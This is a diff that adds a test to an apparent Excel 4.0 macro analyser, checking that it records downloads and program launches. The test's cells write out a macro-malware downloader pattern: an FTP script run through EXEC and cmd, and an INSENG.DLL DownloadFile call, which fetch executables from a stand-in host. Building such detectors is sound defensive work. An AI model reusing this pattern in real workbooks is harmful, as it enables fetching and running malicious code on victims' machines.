@@ -496,3 +496,18 @@ def test_the_active_cell_moves_within_the_selection() -> None:
         "C4": "end",
     }
     assert facts(run(book(cells)), "effect.run") == ["calcthird9", "third", "typed"]
+
+
+def test_files_fetched_by_other_programs() -> None:
+    lines = ["open files.example.test", "user a b", "get x.exe C:\\Users\\Public\\x.exe", "!calc", "bye"]
+    cells = {"A1": '=FOPEN("C:\\Users\\Public\\f.txt",3)'}
+    cells |= {f"A{number}": f'=FWRITELN(A1,"{line}")' for number, line in enumerate(lines, 2)}
+    cells |= {
+        "A7": "=FCLOSE(A1)",
+        "A8": '=EXEC("cmd /c ftp -n -s:C:\\Users\\Public\\f.txt")',
+        "A9": '=CALL("INSENG.DLL","DownloadFile","JCCJ","http://files.example.test/y.exe","C:\\y.exe",1)',
+        "A10": "=HALT()",
+    }
+    items = run(book(cells))
+    assert facts(items, "effect.download") == ["ftp://files.example.test/x.exe", "http://files.example.test/y.exe"]
+    assert "calc" in facts(items, "effect.run")
